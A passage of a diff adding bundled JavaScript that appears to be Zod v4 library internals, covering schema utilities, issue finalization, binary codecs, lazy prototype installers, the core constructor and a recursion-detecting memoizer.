+    "symbol",
+    "undefined",
+]);
+function escapeRegex(str) {
+    return str.replace(/[.*+?^${}()|[\]\\]/g, "\\$&");
+}
+// zod-specific utils
+function clone(inst, def, params) {
+    const cl = new inst._zod.constr(def ?? inst._zod.def);
+    if (!def || params?.parent)
+        cl._zod.parent = inst;
+    return cl;
+}
+function normalizeParams(_params) {
+    const params = _params;
+    if (!params)
+        return {};
+    if (typeof params === "string")
+        return { error: () => params };
+    if (params?.message !== undefined) {
+        if (params?.error !== undefined)
+            throw new Error("Cannot specify both `message` and `error` params");
+        params.error = params.message;
+    }
+    delete params.message;
+    if (typeof params.error === "string")
+        return { ...params, error: () => params.error };
+    return params;
+}
+function createTransparentProxy(getter) {
+    let target;
+    return new Proxy({}, {
+        get(_, prop, receiver) {
+            target ?? (target = getter());
+            return Reflect.get(target, prop, receiver);
+        },
+        set(_, prop, value, receiver) {
+            target ?? (target = getter());
+            return Reflect.set(target, prop, value, receiver);
+        },
+        has(_, prop) {
+            target ?? (target = getter());
+            return Reflect.has(target, prop);
+        },
+        deleteProperty(_, prop) {
+            target ?? (target = getter());
+            return Reflect.deleteProperty(target, prop);
+        },
+        ownKeys(_) {
+            target ?? (target = getter());
+            return Reflect.ownKeys(target);
+        },
+        getOwnPropertyDescriptor(_, prop) {
+            target ?? (target = getter());
+            return Reflect.getOwnPropertyDescriptor(target, prop);
+        },
+        defineProperty(_, prop, descriptor) {
+            target ?? (target = getter());
+            return Reflect.defineProperty(target, prop, descriptor);
+        },
+    });
+}
+function stringifyPrimitive(value) {
+    if (typeof value === "bigint")
+        return value.toString() + "n";
+    if (typeof value === "string")
+        return `"${value}"`;
+    return `${value}`;
+}
+function optionalKeys(shape) {
+    return Object.keys(shape).filter((k) => {
+        return shape[k]._zod.optin !== undefined && shape[k]._zod.optout === "optional";
+    });
+}
+// Wrapped in a `@__PURE__` IIFE: esbuild never tree-shakes a top-level initializer that contains a member access on `Number`, so the bare object literal survived into every bundle.
+const NUMBER_FORMAT_RANGES = /*@__PURE__*/ (() => ({
+    safeint: [Number.MIN_SAFE_INTEGER, Number.MAX_SAFE_INTEGER],
+    int32: [-2147483648, 2147483647],
+    uint32: [0, 4294967295],
+    float32: [-3.4028234663852886e38, 3.4028234663852886e38],
+    float64: [-Number.MAX_VALUE, Number.MAX_VALUE],
+}))();
+const BIGINT_FORMAT_RANGES = {
+    int64: [/* @__PURE__*/ BigInt("-9223372036854775808"), /* @__PURE__*/ BigInt("9223372036854775807")],
+    uint64: [/* @__PURE__*/ BigInt(0), /* @__PURE__*/ BigInt("18446744073709551615")],
+};
+function util_pick(schema, mask) {
+    const currDef = schema._zod.def;
+    const checks = currDef.checks;
+    const hasChecks = checks && checks.length > 0;
+    if (hasChecks) {
+        throw new Error(".pick() cannot be used on object schemas containing refinements");
+    }
+    const newShape = {};
+    mirrorShape(newShape, schema, maskedKeys(schema, mask));
+    return clone(schema, mergeDefs(currDef, { shape: newShape, checks: [] }));
+}
+// the mask keys that select something, checked against the source's shape without resolving it
+function maskedKeys(schema, mask) {
+    const raw = sourceShape(schema);
+    const keys = [];
+    // `for...in` skips symbols, so a symbol in the mask would select nothing
+    for (const key of Reflect.ownKeys(mask)) {
+        if (!Object.getOwnPropertyDescriptor(raw, key)?.enumerable) {
+            throw new Error(`Unrecognized key: "${String(key)}"`);
+        }
+        if (mask[key])
+            keys.push(key);
+    }
+    return keys;
+}
+function omit(schema, mask) {
+    const currDef = schema._zod.def;
+    const checks = currDef.checks;
+    const hasChecks = checks && checks.length > 0;
+    if (hasChecks) {
+        throw new Error(".omit() cannot be used on object schemas containing refinements");
+    }
+    const omitted = new Set(maskedKeys(schema, mask));
+    const newShape = {};
+    mirrorShape(newShape, schema, Reflect.ownKeys(sourceShape(schema)).filter((key) => !omitted.has(key)));
+    return clone(schema, mergeDefs(currDef, { shape: newShape, checks: [] }));
+}
+function extend(schema, shape) {
+    if (!isPlainObject(shape)) {
+        throw new Error("Invalid input to extend: expected a plain object");
+    }
+    const checks = schema._zod.def.checks;
+    const hasChecks = checks && checks.length > 0;
+    if (hasChecks) {
+        // Only throw if new shape overlaps with existing shape. Use getOwnPropertyDescriptor to check key existence without accessing values
+        const existingShape = sourceShape(schema);
+        for (const key of Reflect.ownKeys(shape)) {
+            if (Object.getOwnPropertyDescriptor(existingShape, key) !== undefined) {
+                throw new Error("Cannot overwrite keys on object schemas containing refinements. Use `.safeExtend()` instead.");
+            }
+        }
+    }
+    return clone(schema, mergeDefs(schema._zod.def, { shape: extended(schema, shape) }));
+}
+// the source's keys, then the caller's overlaid on top
+function extended(schema, shape) {
+    const newShape = {};
+    mirrorShape(newShape, schema, Reflect.ownKeys(sourceShape(schema)));
+    mirrorProps(newShape, shape);
+    return newShape;
+}
+function safeExtend(schema, shape) {
+    if (!isPlainObject(shape)) {
+        throw new Error("Invalid input to safeExtend: expected a plain object");
+    }
+    return clone(schema, mergeDefs(schema._zod.def, { shape: extended(schema, shape) }));
+}
+function merge(a, b) {
+    if (!b?._zod?.def) {
+        throw new Error("Invalid input to merge: expected an object schema. To merge a plain shape, use `.extend()`.");
+    }
+    if (a._zod.def.checks?.length) {
+        throw new Error(".merge() cannot be used on object schemas containing refinements. Use .safeExtend() instead.");
+    }
+    const newShape = {};
+    mirrorShape(newShape, a, Reflect.ownKeys(sourceShape(a)));
+    mirrorShape(newShape, b, Reflect.ownKeys(sourceShape(b)));
+    const def = mergeDefs(a._zod.def, {
+        shape: newShape,
+        get catchall() {
+            return b._zod.def.catchall;
+        },
+        checks: b._zod.def.checks ?? [],
+    });
+    return clone(a, def);
+}
+function partial(Class, schema, mask, name = "partial") {
+    const currDef = schema._zod.def;
+    const checks = currDef.checks;
+    const hasChecks = checks && checks.length > 0;
+    if (hasChecks) {
+        throw new Error(`.${name}() cannot be used on object schemas containing refinements`);
+    }
+    const selected = mask ? new Set(maskedKeys(schema, mask)) : undefined;
+    const newShape = {};
+    mirrorShape(newShape, schema, Reflect.ownKeys(sourceShape(schema)), Class &&
+        ((value, key) => (selected && !selected.has(key) ? value : new Class({ type: "optional", innerType: value }))));
+    return clone(schema, mergeDefs(schema._zod.def, { shape: newShape, checks: [] }));
+}
+function required(Class, schema, mask) {
+    const selected = mask ? new Set(maskedKeys(schema, mask)) : undefined;
+    const newShape = {};
+    mirrorShape(newShape, schema, Reflect.ownKeys(sourceShape(schema)), (value, key) => 
+    // overwrite with non-optional
+    selected && !selected.has(key) ? value : new Class({ type: "nonoptional", innerType: value }));
+    return clone(schema, mergeDefs(schema._zod.def, { shape: newShape }));
+}
+// invalid_type | too_big | too_small | invalid_format | not_multiple_of | unrecognized_keys | invalid_union | invalid_key | invalid_element | invalid_value | custom
+function aborted(x, startIndex = 0) {
+    if (x.aborted === true)
+        return true;
+    for (let i = startIndex; i < x.issues.length; i++) {
+        if (x.issues[i]?.continue !== true) {
+            return true;
+        }
+    }
+    return false;
+}
+// Checks for explicit abort (continue === false), as opposed to implicit abort (continue === undefined). Used to respect `abort: true` in .refine() even for checks that have a `when` function.
+function explicitlyAborted(x, startIndex = 0) {
+    if (x.aborted === true)
+        return true;
+    for (let i = startIndex; i < x.issues.length; i++) {
+        if (x.issues[i]?.continue === false) {
+            return true;
+        }
+    }
+    return false;
+}
+function prefixIssues(path, issues) {
+    return issues.map((iss) => {
+        var _a;
+        (_a = iss).path ?? (_a.path = []);
+        iss.path.unshift(path);
+        return iss;
+    });
+}
+function unwrapMessage(message) {
+    return typeof message === "string" ? message : message?.message;
+}
+/* A check holds no link back to the schema it is attached to — the same check instance is shared by every clone of that schema — so the owner is stamped onto the issues a check just raised, at the only point where both are in scope. Runs on the failure path only; `start` is the issue count from before the check ran. */
+/** The leading size checks of `defChecks` that set an upper bound, each paired with it. */
+function sizeCaps(defChecks) {
+    const caps = [];
+    for (const ch of defChecks ?? []) {
+        const d = ch._zod.def;
+        // a later check may rewrite the value
+        if (!/_(length|size)$|_equals$/.test(d.check))
+            break;
+        const max = d.maximum ?? d.length ?? d.size;
+        if (max >= 0)
+            caps.push([max, ch]);
+    }
+    return caps;
+}
+function attachSchema(issues, start, inst) {
+    var _a;
+    for (let i = start; i < issues.length; i++) {
+        (_a = issues[i]).schema ?? (_a.schema = inst);
+    }
+}
+function finalizeIssue(iss, ctx, config) {
+    var _a;
+    // A schema that raised an issue itself owns it outright, and outranks any stamp an enclosing check left in `attachSchema`. String formats and z.custom() are schema and check at once, so when they act as a check they defer to that stamp instead.
+    const traits = iss.inst?._zod?.traits;
+    if (traits?.has("$ZodType")) {
+        if (traits.has("$ZodCheck"))
+            (_a = iss).schema ?? (_a.schema = iss.inst);
+        else
+            iss.schema = iss.inst;
+    }
+    // Decreasing specificity, first map to return a message wins. `inst` is whatever raised the issue, so a check's own map outranks the owning schema's.
+    const schemaError = iss.schema !== iss.inst ? iss.schema?._zod.def?.error : undefined;
+    const message = iss.message
+        ? iss.message
+        : (unwrapMessage(iss.inst?._zod.def?.error?.(iss)) ??
+            unwrapMessage(schemaError?.(iss)) ??
+            unwrapMessage(ctx?.error?.(iss)) ??
+            unwrapMessage(config.customError?.(iss)) ??
+            unwrapMessage(config.localeError?.(iss)) ??
+            "Invalid input");
+    // an explicit own-key copy beats object rest with excluded keys, which v8 routes through a generic runtime call; Object.keys rather than for-in so an issue pushed with a prototype does not leak inherited keys, and an own __proto__ key is dropped rather than assigned through the setter
+    const full = {};
+    for (const k of Object.keys(iss)) {
+        if (k === "inst" || k === "schema" || k === "continue" || k === "input" || k === "__proto__")
+            continue;
+        full[k] = iss[k];
+    }
+    full.path ?? (full.path = []);
+    full.message = message;
+    if (ctx?.reportInput) {
+        full.input = iss.input;
+    }
+    return full;
+}
+function getSizableOrigin(input) {
+    if (input instanceof Set)
+        return "set";
+    if (input instanceof Map)
+        return "map";
+    // @ts-ignore
+    if (input instanceof File)
+        return "file";
+    return "unknown";
+}
+const highSurrogate = /[\uD800-\uDBFF]/;
+// Code points in `str`: a surrogate pair counts once, a lone surrogate as itself. Hand-rolled because the string iterator allocates and runs ~250x slower on this path; the regex probe exits ~50x quicker for a string with no astral characters.
+function codePointLength(str) {
+    const units = str.length;
+    if (!highSurrogate.test(str))
+        return units;
+    let count = units;
+    for (let i = 0; i < units - 1; i++) {
+        if ((str.charCodeAt(i) & 0xfc00) === 0xd800 && (str.charCodeAt(i + 1) & 0xfc00) === 0xdc00) {
+            count--;
+            i++;
+        }
+    }
+    return count;
+}
+function getLengthableOrigin(input) {
+    if (Array.isArray(input))
+        return "array";
+    if (typeof input === "string")
+        return "string";
+    return "unknown";
+}
+function parsedType(data) {
+    const t = typeof data;
+    switch (t) {
+        case "number": {
+            return Number.isNaN(data) ? "nan" : "number";
+        }
+        case "object": {
+            if (data === null) {
+                return "null";
+            }
+            if (Array.isArray(data)) {
+                return "array";
+            }
+            const obj = data;
+            if (obj && Object.getPrototypeOf(obj) !== Object.prototype && "constructor" in obj && obj.constructor) {
+                return obj.constructor.name;
+            }
+        }
+    }
+    return t;
+}
+function util_issue(...args) {
+    const [iss, input, inst] = args;
+    if (typeof iss === "string") {
+        return {
+            message: iss,
+            code: "custom",
+            input,
+            inst,
+        };
+    }
+    return { ...iss };
+}
+function cleanEnum(obj) {
+    return Object.entries(obj)
+        .filter(([k, _]) => {
+        // return true if NaN, meaning it's not a number, thus a string key
+        return Number.isNaN(Number.parseInt(k, 10));
+    })
+        .map((el) => el[1]);
+}
+// Codec utility functions
+function base64ToUint8Array(base64) {
+    const binaryString = atob(base64);
+    const bytes = new Uint8Array(binaryString.length);
+    for (let i = 0; i < binaryString.length; i++) {
+        bytes[i] = binaryString.charCodeAt(i);
+    }
+    return bytes;
+}
+function uint8ArrayToBase64(bytes) {
+    let binaryString = "";
+    for (let i = 0; i < bytes.length; i++) {
+        binaryString += String.fromCharCode(bytes[i]);
+    }
+    return btoa(binaryString);
+}
+function base64urlToUint8Array(base64url) {
+    const base64 = base64url.replace(/-/g, "+").replace(/_/g, "/");
+    const padding = "=".repeat((4 - (base64.length % 4)) % 4);
+    return base64ToUint8Array(base64 + padding);
+}
+function uint8ArrayToBase64url(bytes) {
+    return uint8ArrayToBase64(bytes).replace(/\+/g, "-").replace(/\//g, "_").replace(/=/g, "");
+}
+function hexToUint8Array(hex) {
+    const cleanHex = hex.replace(/^0x/, "");
+    if (cleanHex.length % 2 !== 0) {
+        throw new Error("Invalid hex string length");
+    }
+    const bytes = new Uint8Array(cleanHex.length / 2);
+    for (let i = 0; i < cleanHex.length; i += 2) {
+        bytes[i / 2] = Number.parseInt(cleanHex.slice(i, i + 2), 16);
+    }
+    return bytes;
+}
+function uint8ArrayToHex(bytes) {
+    return Array.from(bytes)
+        .map((b) => b.toString(16).padStart(2, "0"))
+        .join("");
+}
+// instanceof
+class Class {
+    constructor(..._args) { }
+}
+//////////    PROTOTYPE INSTALLERS     //////////
+//
+// Members live on the prototype and materialize per instance on first read, which keeps own-property count under the step where V8 stops using inline slots. Changing anything here means re-measuring runtime, memory and bundle size together — see "The three axes" in AGENTS.md.
+/**
+ * Installs a trait's members on its prototype. Each value builds that member for the instance on first read; the built value shadows the accessor as an own property, so a detached `const { parse } = schema` keeps working.
+ *
+ * Call this from a `proto` initializer, which runs once per prototype — never per instance.
+ */
+function members(proto, table) {
+    for (const key in table) {
+        const desc = Object.getOwnPropertyDescriptor(table, key);
+        // a getter installs as written, so it stays live: `description` reads through to the registry on every access. not enumerable: an object literal's is, and a prototype member never was
+        if (desc.get)
+            Object.defineProperty(proto, key, { ...desc, enumerable: false });
+        // a method materializes bound on first read, which is what keeps a detached member working: `const opt = schema.optional; opt()`
+        else
+            defineBound(proto, key, desc.value);
+    }
+}
+/** Shadows a prototype member with an own value, so a getter that builds from the instance runs once. */
+function own(inst, key, value, enumerable = true) {
+    Object.defineProperty(inst, key, { configurable: true, writable: true, enumerable, value });
+    return value;
+}
+/** Like {@link own}, for a member that was never an own data property and has to stay out of `Object.keys`. */
+function hide(inst, key, value) {
+    return own(inst, key, value, false);
+}
+/** Adds members a table derives from the instance: each builds on first read and shadows as own data, and assignment shadows the same way, as when these were own properties. */
+function derived(computes, table) {
+    for (const key in computes) {
+        const compute = computes[key];
+        // an object literal's accessor is configurable and enumerable, and `members` copies the descriptor as written
+        Object.defineProperty(table, key, {
+            configurable: true,
+            enumerable: true,
+            get() {
+                return own(this, key, compute(this));
+            },
+            set(value) {
+                own(this, key, value);
+            },
+        });
+    }
+    return table;
+}
+function defineBound(proto, key, fn) {
+    Object.defineProperty(proto, key, {
+        configurable: true,
+        get() {
+            // vitest's spyOn calls a prototype getter bare to find the function it wraps, so a nullish receiver answers the raw method
+            return this == null ? fn : own(this, key, fn.bind(this));
+        },
+        set(value) {
+            own(this, key, value);
+        },
+    });
+}
+/** Returns the prototype to install on, or `undefined` if this group is already installed on it. */
+function claim(inst, sentinel) {
+    const proto = Object.getPrototypeOf(inst);
+    // Runs on every construction, so `in` rather than the costlier `hasOwnProperty.call`. Sentinels are keys the group itself defines.
+    return sentinel in proto ? undefined : proto;
+}
+// The internals whose init chain is installing. A second call for the same one is a derived constructor overriding its base, so it must not construct another schema in between or the override is dropped.
+let installing;
+// Set while a getter is running, so a value that resolved through a recursion break is not memoized. One shared descriptor shadows the key for the duration, which costs no per-key allocation.
+let broke = false;
+const breaker = {
+    configurable: true,
+    get() {
+        broke = true;
+        return undefined;
+    },
+};
+/**
+ * Installs a lazily-derived internal on the `_zod` prototype of `inst`'s
+ * constructor, computed from the internals object itself and cached there on
+ * first read. One accessor per constructor rather than one per instance.
+ */
+function defineLazyInternal(inst, key, compute) {
+    const proto = Object.getPrototypeOf(inst._zod);
+    if (key in proto && installing !== inst._zod) {
+        // A repeat construction: everything is installed already. Cleared here so the reference is not held past the first construction of every type.
+        installing = undefined;
+        return;
+    }
+    installing = inst._zod;
+    Object.defineProperty(proto, key, {
+        configurable: true,
+        get() {
+            // Shadowed before computing so a re-entrant read from a recursive schema resolves to undefined instead of running the getter again.
+            Object.defineProperty(this, key, breaker);
+            const outer = broke;
+            broke = false;
+            try {
+                const value = compute(this);
+                // A result that resolved through a recursion break is recomputed once the graph is complete; everything else memoizes, undefined included.
+                if (broke)
+                    delete this[key];
+                else
+                    Object.defineProperty(this, key, { configurable: true, writable: true, value });
+                broke = broke || outer;
+                return value;
+            }
+            catch (err) {
+                // A compute that threw memoizes nothing, so a later read runs it again and fails the same way. The shadow goes with it, since leaving it installed would answer undefined for every later read.
+                delete this[key];
+                broke = broke || outer;
+                throw err;
+            }
+        },
+        set(value) {
+            Object.defineProperty(this, key, { configurable: true, writable: true, value });
+        },
+    });
+}
+/**
+ * Installs `key` on `inst`'s prototype, computed by `make` on first read and cached there as an own
+ * data property. One accessor per constructor rather than one per instance, because an own accessor
+ * puts every instance after the first into v8 dictionary mode. The key doubles as the sentinel.
+ */
+function installLazyProp(inst, key, make, enumerable) {
+    const proto = claim(inst, key);
+    if (!proto)
+        return;
+    Object.defineProperty(proto, key, {
+        configurable: true,
+        get() {
+            // Shadowed before computing, so a re-entrant read from a self-referential shape resolves to undefined instead of running the getter again. A data property rather than an accessor: an own accessor is the dictionary-mode transition this exists to avoid.
+            const desc = { configurable: true, writable: true, enumerable, value: undefined };
+            Object.defineProperty(this, key, desc);
+            // a compute that throws leaves the shadow behind, so later reads answer undefined instead of re-throwing; `defineLazy` did the same, and `defineLazyInternal`'s delete-on-catch would cost bytes in every bundle for a case only a throwing user getter reaches
+            desc.value = make(this);
+            Object.defineProperty(this, key, desc);
+            return desc.value;
+        },
+        set(value) {
+            Object.defineProperty(this, key, { configurable: true, writable: true, enumerable, value });
+        },
+    });
+}
+/** Marks the thunk `_catch` synthesises for a constant catch value. `Function.length` cannot tell that thunk from a user callback — rest and defaulted parameters both report arity 0 — and a user callback reads `ctx.error`, whose issues only finalize correctly against the caller's per-parse error map. Provenance can say what arity cannot. A plain string key rather than `Symbol.for`, whose call at module scope no bundler can prove pure — the same shape that anchored `urlCanParse` into every build. */
+const CONSTANT_CATCH = "~constantCatch";
+/** Wraps a constant catch value in a thunk tagged with {@link CONSTANT_CATCH}. */
+function constantCatch(value) {
+    const fn = () => value;
+    fn[CONSTANT_CATCH] = true;
+    return fn;
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/core.js
+var _a;
+
+/** A special constant with type `never` */
+const NEVER = /*@__PURE__*/ Object.freeze({
+    status: "aborted",
+});
+/* Shared descriptor for installing `_zod`; defineProperty reads it
+ * synchronously, so reusing one object avoids a per-instance allocation. */
+const _zodDesc = { value: undefined, enumerable: false };
+// null where suppressing the capture would be unrecoverable: `parse()` puts the frames back with `captureStackTrace`, so without it the throw would lose its stack. also latched to null once `stackTraceLimit` proves unassignable, which a realm can do at any point by hardening Error
+let _E = "captureStackTrace" in Error ? Error : null;
+// v8 captures a stack trace inside the Error constructor, which dominates a failed parse; costs only the frames, and parse() restores those. the constructor must RUN: Object.create is cheaper and passes instanceof, but Error.isError and util.types.isNativeError check an internal slot
+function newError(Definition) {
+    const E = _E;
+    if (E) {
+        const saved = E.stackTraceLimit;
+        if (typeof saved === "number") {
+            try {
+                E.stackTraceLimit = 0;
+            }
+            catch {
+                _E = null;
+                return new Definition();
+            }
+            try {
+                return new Definition();
+            }
+            finally {
+                E.stackTraceLimit = saved;
+            }
+        }
+    }
+    return new Definition();
+}
+function $constructor(name, initializer, 
+/** This trait's members, installed once on every prototype that composes it. They cannot be declared in the initializer above: that runs per instance, and the prototype is shared. */
+proto, params) {
+    // Prototype for this constructor's `_zod` internals. Lazily-derived fields (`values`, `pattern`, `optin`, …) install here once rather than as an accessor on every instance.
+    const zodProto = {};
+    // Assigning the fields in the constructor body is what gives instances in-object slots; building the object literally and reparenting it costs a second allocation and a generic property copy.
+    function Internals(def) {
+        this.def = def;
+        this.constr = _;
+        this.traits = new Set();
+    }
+    Internals.prototype = zodProto;
+    const protoMembers = proto;
+    // One trait's members land on every prototype whose chain composes it, so the answer is per prototype rather than per trait.
+    const initialized = protoMembers && new WeakSet();
+    function init(inst, def) {
+        if (!inst._zod) {
+            _zodDesc.value = new Internals(def);
+            try {
+                Object.defineProperty(inst, "_zod", _zodDesc);
+            }
+            finally {
+                // Cleared even on throw, so the shared descriptor never leaks one instance's internals into the next.
+                _zodDesc.value = undefined;
+            }
+        }
+        else if (inst._zod.traits.has(name)) {
+            return;
+        }
+        inst._zod.traits.add(name);
+        initializer(inst, def);
+        if (initialized) {
+            // `super(def)` from a user subclass gives `this` a prototype the subclass owns, and installing there would overwrite whatever the subclass declared. `constr` built the instance, so its prototype is the one below the subclass's that should carry the members. A receiver whose chain never reaches that prototype installs on its own, which for a plain object handed straight to `init` means `Object.prototype` — unchanged from before.
+            const own = Object.getPrototypeOf(inst);
+            const ctorProto = inst._zod.constr.prototype;
+            let up = own;
+            while (up && up !== ctorProto)
+                up = Object.getPrototypeOf(up);
+            const target = up ?? own;
+            if (!initialized.has(target)) {
+                initialized.add(target);
+                members(target, protoMembers);
+            }
+        }
+        // support prototype modifications; for-in avoids the array allocation of Object.keys on the (usually empty) prototype
+        const proto = _.prototype;
+        for (const k in proto) {
+            if (!Object.prototype.hasOwnProperty.call(proto, k))
+                continue;
+            if (!(k in inst)) {
+                inst[k] = proto[k].bind(inst);
+            }
+        }
+    }
+    // doesn't work if Parent has a constructor with arguments
+    const Parent = params?.Parent ?? Object;
+    class Definition extends Parent {
+    }
+    Object.defineProperty(Definition, "name", { value: name });
+    function _(def) {
+        const inst = params?.Parent ? newError(Definition) : this;
+        init(inst, def);
+        const deferred = inst._zod.deferred;
+        if (deferred) {
+            for (const fn of deferred) {
+                fn();
+            }
+            // Released: initializers run once, and the list would otherwise be retained for the schema's lifetime.
+            inst._zod.deferred = undefined;
+        }
+        // Global post-processor hook. Internal: installed by `import "zod/compile"` to enable AOT compilation for every constructed schema. Runs last, once the instance is fully built, because it hands the instance to compile(). The post-processor is expected to be reentrancy-guarded by its own implementation.
+        const pp = globalThis.__zod_globalConfig?.postProcessor;
+        if (pp)
+            pp(inst);
+        return inst;
+    }
+    Object.defineProperty(_, "init", { value: init });
+    Object.defineProperty(_, Symbol.hasInstance, {
+        value: (inst) => {
+            if (params?.Parent && inst instanceof params.Parent)
+                return true;
+            return inst?._zod?.traits?.has(name);
+        },
+    });
+    Object.defineProperty(_, "name", { value: name });
+    return _;
+}
+//////////////////////////////   UTILITIES   ///////////////////////////////////////
+const $brand = /*@__PURE__*/ (/* unused pure expression or super */ null && (Symbol("zod_brand")));
+class $ZodAsyncError extends Error {
+    constructor() {
+        super(`Encountered Promise during synchronous parse. Use .parseAsync() instead.`);
+    }
+}
+class $ZodEncodeError extends Error {
+    constructor(name) {
+        super(`Encountered unidirectional transform during encode: ${name}`);
+        this.name = "ZodEncodeError";
+    }
+}
+(_a = globalThis).__zod_globalConfig ?? (_a.__zod_globalConfig = {});
+const globalConfig = globalThis.__zod_globalConfig;
+function config(newConfig) {
+    if (newConfig)
+        Object.assign(globalConfig, newConfig);
+    return globalConfig;
+}
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/memoizer.js
+
+class $ZodCyclicError extends Error {
+    constructor() {
+        super(`Cannot parse a reference cycle that closes through a transform`);
+        this.name = "ZodCyclicError";
+    }
+}
+/** Keyed off the context object every schema in one parse call already shares. */
+const STATE = "~memo";
+const NO_ISSUES = [];
+// a value a cycle can close through
+function isRef(value) {
+    return value !== null && typeof value === "object";
+}
+// Receivers prefix paths in place, so the cache and every hand-out need their own copies.
+function cloneIssues(issues) {
+    return issues.map((iss) => (iss.path ? { ...iss, path: iss.path.slice() } : { ...iss }));
+}
+const recursive = /*@__PURE__*/ new WeakMap();
+/** What the walk established, in order of certainty: ordered so the strongest answer among children wins. */
+const NONE = 0;
+const ASSUMED = 1;
+const PROVEN = 2;
+/** Whether this schema's subtree contains a cycle, so one parse can re-enter it. */
+function isRecursive(inst, stack, resolve) {
+    const cached = recursive.get(inst);
+    if (cached !== undefined)
+        return cached ? PROVEN : NONE;
+    // Relative to the walk in progress, so not cached.
+    if (stack.has(inst))
+        return PROVEN;
+    stack.add(inst);
+    let result = NONE;
+    const check = (child) => {
+        if (result !== PROVEN && child?._zod) {
+            const answer = isRecursive(child, stack, resolve);
+            if (answer > result)
+                result = answer;
+        }
+    };
+    // `Reflect.ownKeys` rather than `Object.keys`, so a cycle through a declared symbol key is still seen
+    const shape = (sh, spread) => {
+        let answer = NONE;
+        for (const key of Reflect.ownKeys(sh)) {
+            const desc = Object.getOwnPropertyDescriptor(sh, key);
+            // an object resolves its shape by spread, so a key it does not enumerate is never parsed; `z.properties` reads every own key and so keeps them all
+            if (spread && !desc.enumerable)
+                continue;
+            // resolving runs user code, and a factory mints a fresh subtree per read, so an edge the walk can't follow counts as a cycle
+            const child = desc.get ? ASSUMED : desc.value?._zod ? isRecursive(desc.value, stack, resolve) : NONE;
+            if (child > answer)
+                answer = child;
+        }
+        return answer;
+    };
+    const merge = (answer) => {
+        if (answer > result)
+            result = answer;
+    };
+    const def = inst._zod.def;
+    const kind = def.type;
+    switch (kind) {
+        case "object": {
+            const raw = rawShape(def);
+            // a def with no raw shape answers `shape` from an accessor of its own, and running that can mint a whole fresh subtree
+            merge(raw ? shape(raw, true) : ASSUMED);
+            check(def.catchall);
+            break;
+        }
+        case "array":
+            check(def.element);
+            break;
+        case "tuple":
+            for (const el of def.items)
+                check(el);
+            check(def.rest);
+            break;
+        case "record":
+        case "map":
+            check(def.keyType);
+            check(def.valueType);
+            break;
+        case "set":
+            check(def.valueType);
+            break;
+        case "union":
+            for (const el of def.options)
+                check(el);
+            break;
+        case "intersection":
+            check(def.left);
+            check(def.right);
+            break;
+        case "optional":
+        case "nullable":
+        case "default":
+        case "prefault":
+        case "catch":
+        case "readonly":
+        case "nonoptional":
+        case "promise":
+        case "success":
+            check(def.innerType);
+            break;
+        case "pipe":
+            check(def.in);
+            check(def.out);
+            break;
+        case "function":
+            check(def.input);
+            check(def.output);
+            break;
+        // `$ZodLazy` caches its inner on the def, so a resolved edge is followed exactly
+        case "lazy": {
+            const inner = def._cachedInner ?? (resolve ? inst._zod.innerType : undefined);
+            // walked with resolution off: one hop sees past the deferral, and a lazy that yields only another unresolved lazy is generative, so it stops there
+            merge(inner ? isRecursive(inner, stack, false) : ASSUMED);
+            break;
+        }
+        // a leaf by choice: `parts` are regex fragments, not data positions
+        case "template_literal":
+        // leaves
+        case "string":
+        case "number":
+        case "int":
+        case "boolean":
+        case "bigint":
+        case "symbol":
+        case "undefined":
+        case "null":
+        case "void":
+        case "never":
+        case "any":
+        case "unknown":
+        case "date":
+        case "nan":
+        case "enum":
+        case "literal":
+        case "file":
+        case "transform":
+        case "custom":
+            break;
+        default: {
+            // a new built-in kind becomes a compile error here
+            kind;
+            // a user-defined kind can still hold children, and only its author knows where, so fall back to scanning the def — skipping accessors, since reading one can run user code
+            for (const key in def) {
+                const desc = Object.getOwnPropertyDescriptor(def, key);
+                if (!desc || desc.get)
+                    continue;
+                const value = desc.value;
+                if (!value || typeof value !== "object")
+                    continue;
+                if (value._zod)
+                    check(value);
+                else if (Array.isArray(value))
+                    for (const el of value)
+                        check(el);
+            }
+        }
+    }
+    stack.delete(inst);
+    return settle(inst, result);
+}
+/** An assumed answer must not outlive the resolution that settles it, so only a certain one is cached. */
+function settle(inst, answer) {
+    if (answer !== ASSUMED)
+        recursive.set(inst, answer === PROVEN);
+    return answer;
+}
+/**
+ * Whether one parse can re-enter this schema, i.e. its subtree contains a cycle.
+ * Exported for `z.compile`, which refuses to compile such a schema: cycle
+ * breaking is driven from here off state keyed on the parse context, and a
+ * generated fast path has no context to key on.
+ */
+function isRecursiveSchema(inst) {
+    // z.compile never parses, so nothing would ever resolve a lazy for it; it runs once and already treats a throw here as recursive
+    return isRecursive(inst, new Set(), true) !== NONE;
+}
+function bucketFor(state, inst) {
+    let bucket = state.buckets.get(inst);
+    if (!bucket) {
+        bucket = new WeakMap();
+        state.buckets.set(inst, bucket);
+    }
+    return bucket;
+}
+// Set immediately before delegating to core and cleared immediately after, so `alloc` registers only for a visit this module is driving.
+let handoff;
+// Allocated but unfinished entries. `alloc` and the matching pop both happen in the synchronous part of a parse, so they nest even when children are async, and one stack serves every schema.
+const memoizer_open = [];
+const memo = {
+    alloc(_inst, payload, empty) {
+        const bucket = handoff;
+        if (!bucket)
+            return empty;
+        handoff = undefined;
+        const entry = { value: empty, issues: null };
+        bucket.set(payload.value, entry);
+        memoizer_open.push(entry);
+        return empty;
+    },
+    guard(inst) {
+        var _a;
+        (_a = inst._zod).deferred ?? (_a.deferred = []);
+        inst._zod.deferred.push(() => {
+            const base = inst._zod.parse;
+            const wrapped = (payload, ctx) => {
+                // The value is a placeholder a back-edge is still waiting on, so the cycle closes through this transform. Its output can't exist in time to bind.
+                if (ctx.direction !== "backward" && isBackEdge(ctx, payload.value))
+                    throw new $ZodCyclicError();
+                return base(payload, ctx);
+            };
+            inst._zod.parse = wrapped;
+            if (inst._zod.run === base)
+                inst._zod.run = wrapped;
+        });
+    },
+    attach(inst) {
+        var _a;
+        let isRecursiveInst;
+        let rechecked = false;
+        // a recursive schema is re-entered many times per parse and its bucket never changes
+        let lastCtx;
+        let lastBucket;
+        // Wraps `parse` in a deferred so it sees the container's final parse. Core's own deferred copies `parse` into `run` when there are no checks, and it ran first, so `run` is patched to match; with checks, `run` reads `parse` dynamically.
+        (_a = inst._zod).deferred ?? (_a.deferred = []);
+        inst._zod.deferred.push(() => {
+            const base = inst._zod.parse;
+            const wrapped = (payload, ctx) => {
+                if (isRecursiveInst === undefined) {
+                    const walked = isRecursive(inst, new Set(), false);
+                    if (walked === NONE) {
